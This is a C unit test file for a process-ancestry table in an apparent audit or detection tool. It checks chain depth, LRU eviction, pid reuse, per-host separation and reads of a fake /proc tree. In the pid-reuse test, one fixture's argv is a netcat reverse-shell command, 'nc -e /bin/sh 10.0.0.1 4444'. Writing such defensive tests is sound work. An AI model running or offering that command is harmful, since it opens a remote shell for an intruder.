/* test_ancestry.c -- the process table: depth, the cap and LRU eviction,
 * pid reuse, origins kept apart, /proc only for this host's processes and
 * only when they started before the event (a /proc tree of the test's). */
#define _GNU_SOURCE
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "ancestry.h"

#define BOOT_S   1700000000LL
#define EVENT_MS ((BOOT_S + 1000) * 1000)   /* 1000 s after boot */

static const audit_view_t local = { "", 0 };
static const audit_view_t web01 = { "web01", 5 };
static char procdir[64];

static ancestry_proc_t proc(uint32_t pid, uint32_t ppid, const char *exe, const char *argv)
{
	ancestry_proc_t p;
	const char *slash = strrchr(exe, '/');

	memset(&p, 0, sizeof(p));
	p.pid = pid;
	p.ppid = ppid;
	snprintf(p.exe, sizeof(p.exe), "%s", exe);
	snprintf(p.comm, sizeof(p.comm), "%s", slash ? slash + 1 : exe);
	snprintf(p.argv, sizeof(p.argv), "%s", argv);
	p.uid = 33;
	p.auid = ANCESTRY_ID_UNKNOWN;
	return p;
}

static ancestry_t *table(size_t cap, unsigned depth, int use_proc)
{
	ancestry_conf_t c;
	ancestry_t *a;

	ancestry_conf_default(&c);
	c.cap = cap;
	c.depth = depth;
	c.use_proc = use_proc;
	c.proc_root = procdir;
	a = ancestry_new(&c);
	cr_assert_not_null(a);
	return a;
}

/* the chain's comms joined by " <- " */
static const char *chain(ancestry_t *a, audit_view_t origin, int is_local, uint32_t ppid)
{
	static char out[512];
	ancestry_proc_t v[ANCESTRY_DEPTH_MAX];
	size_t n = ancestry_chain(a, origin, is_local, ppid, EVENT_MS, v, ANCESTRY_DEPTH_MAX), i;

	out[0] = '\0';
	for (i = 0; i < n; i++)
		snprintf(out + strlen(out), sizeof(out) - strlen(out), "%s%s", i ? " <- " : "",
		         v[i].comm);
	return out;
}

static void write_file(const char *rel, const char *text, size_t len)
{
	char path[256];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", procdir, rel);
	f = fopen(path, "w");
	cr_assert_not_null(f, "%s", path);
	fwrite(text, 1, len, f);
	fclose(f);
}

/* a process in the fake /proc, started START_S seconds after boot */
static void fake_proc(uint32_t pid, uint32_t ppid, const char *comm, const char *exe,
                      long long start_s)
{
	char d[128], stat[512], link[256];

	snprintf(d, sizeof(d), "%s/%u", procdir, pid);
	mkdir(d, 0755);
	snprintf(stat, sizeof(stat), "%u (%s) S %u %u %u 0 -1 4194560 100 0 0 0 0 0 0 0 20 0 1 0 "
	         "%lld 1000000 100 18446744073709551615\n", pid, comm, ppid, pid, pid,
	         start_s * sysconf(_SC_CLK_TCK));
	snprintf(link, sizeof(link), "%u/stat", pid);
	write_file(link, stat, strlen(stat));
	snprintf(link, sizeof(link), "%u/cmdline", pid);
	write_file(link, comm, strlen(comm) + 1);   /* argv[0] and its NUL */
	snprintf(link, sizeof(link), "%u/status", pid);
	write_file(link, "Name:\tx\nUid:\t0\t0\t0\t0\n", 22);
	snprintf(link, sizeof(link), "%u/loginuid", pid);
	write_file(link, "1000", 4);
	snprintf(link, sizeof(link), "%s/%u/exe", procdir, pid);
	cr_assert_eq(symlink(exe, link), 0);
}

static void setup(void)
{
	char stat[64];

	snprintf(procdir, sizeof(procdir), "/tmp/test_ancestry_XXXXXX");
	cr_assert_not_null(mkdtemp(procdir));
	snprintf(stat, sizeof(stat), "cpu 1 2 3\nbtime %lld\n", BOOT_S);
	write_file("stat", stat, strlen(stat));
}

static void teardown(void)
{
	char cmd[128];

	snprintf(cmd, sizeof(cmd), "rm -rf '%s'", procdir);
	cr_expect_eq(system(cmd), 0);
}

TestSuite(ancestry, .init = setup, .fini = teardown);

/* sshd -> bash -> sudo -> sh -> curl: curl's event has ppid 40 (sh) */
static void sshd_to_curl(ancestry_t *a, audit_view_t origin)
{
	ancestry_proc_t p[4] = {
		proc(10, 1, "/usr/sbin/sshd", "sshd: alice"),
		proc(20, 10, "/usr/bin/bash", "-bash"),
		proc(30, 20, "/usr/bin/sudo", "sudo sh"),
		proc(40, 30, "/usr/bin/sh", "sh"),
	};
	size_t i;

	for (i = 0; i < 4; i++)
		cr_assert_eq(ancestry_learn(a, origin, &p[i], 1), 0);
}

Test(ancestry, depth)
{
	ancestry_t *a = table(100, 3, 0);

	sshd_to_curl(a, web01);
	cr_expect_str_eq(chain(a, web01, 0, 40), "sh <- sudo <- bash");
	ancestry_free(a);
	a = table(100, 8, 0);
	sshd_to_curl(a, web01);
	cr_expect_str_eq(chain(a, web01, 0, 40), "sh <- sudo <- bash <- sshd");
	cr_expect_eq(ancestry_stats(a)->hits, 4);
	cr_expect_eq(ancestry_stats(a)->misses, 1);   /* pid 1 is not known */
	ancestry_free(a);
}

Test(ancestry, cap_evicts_the_least_recently_used)
{
	ancestry_t *a = table(4, 8, 0);
	ancestry_proc_t extra = proc(50, 40, "/usr/bin/curl", "curl http://x");

	sshd_to_curl(a, web01);                            /* 4: full */
	cr_expect_str_eq(chain(a, web01, 0, 20), "bash <- sshd");   /* 20, 10 used */
	cr_assert_eq(ancestry_learn(a, web01, &extra, 1), 0);  /* evicts 30, the oldest use */
	cr_expect_eq(ancestry_stats(a)->evictions, 1);
	cr_expect_eq(ancestry_stats(a)->size, 4);
	cr_expect_str_eq(chain(a, web01, 0, 50), "curl <- sh");     /* 30 gone */
	cr_expect_str_eq(chain(a, web01, 0, 20), "bash <- sshd");
	ancestry_free(a);
}

Test(ancestry, pid_reuse_replaces_the_process)
{
	ancestry_t *a = table(100, 8, 0);
	ancestry_proc_t nc = proc(40, 30, "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");

	sshd_to_curl(a, web01);
	cr_assert_eq(ancestry_learn(a, web01, &nc, 1), 0);   /* an execve of pid 40 */
	cr_expect_str_eq(chain(a, web01, 0, 40), "nc <- sudo <- bash <- sshd");
	cr_expect_eq(ancestry_stats(a)->size, 4);
	/* another syscall of a known pid does not replace it */
	nc = proc(40, 30, "/usr/bin/other", "");
	cr_assert_eq(ancestry_learn(a, web01, &nc, 0), 0);
	cr_expect_str_eq(chain(a, web01, 0, 40), "nc <- sudo <- bash <- sshd");
	ancestry_free(a);
}

Test(ancestry, origins_are_apart_and_relays_never_read_proc)
{
	ancestry_t *a = table(100, 8, 1);

	fake_proc(40, 1, "sh", "/usr/bin/sh", 10);
	sshd_to_curl(a, web01);
	cr_expect_str_eq(chain(a, local, 1, 30), "");                  /* 30 is web01's */
	cr_expect_str_eq(chain(a, web01, 0, 99), "");                  /* relay: no /proc */
	cr_expect_eq(ancestry_stats(a)->proc_reads, 0);
	cr_expect_str_eq(chain(a, local, 1, 40), "sh");                /* local: /proc */
	cr_expect_eq(ancestry_stats(a)->proc_reads, 1);
	ancestry_free(a);
}

Test(ancestry, proc_answers_only_for_processes_older_than_the_event)
{
	ancestry_t *a = table(100, 8, 1);
	ancestry_proc_t v[4];

	fake_proc(700, 600, "php-fpm", "/usr/sbin/php-fpm8.2", 100);
	fake_proc(600, 1, "init", "/sbin/init", 0);
	fake_proc(800, 1, "late", "/usr/bin/late", 2000);       /* after the event */
	cr_assert_eq(ancestry_chain(a, local, 1, 700, EVENT_MS, v, 4), 2);   /* pid 1: none */
	cr_expect_str_eq(v[0].exe, "/usr/sbin/php-fpm8.2");
	cr_expect_str_eq(v[0].argv, "php-fpm");
	cr_expect_eq(v[0].uid, 0);
	cr_expect_eq(v[0].auid, 1000);
	cr_expect(v[0].from_proc);
	cr_expect_eq(v[1].pid, 600);
	cr_expect_str_eq(chain(a, local, 1, 800), "");
	/* what /proc gave is learnt: the second time it is a hit */
	cr_expect_str_eq(chain(a, local, 1, 700), "php-fpm <- init");
	cr_expect_eq(ancestry_stats(a)->proc_reads, 2);
	ancestry_free(a);
}

Test(ancestry, loops_end_the_walk)
{
	ancestry_t *a = table(100, 8, 0);
	ancestry_proc_t x = proc(5, 6, "/x", "x"), y = proc(6, 5, "/y", "y");

	ancestry_learn(a, web01, &x, 1);
	ancestry_learn(a, web01, &y, 1);
	cr_expect_str_eq(chain(a, web01, 0, 5), "x <- y");
	ancestry_free(a);
}
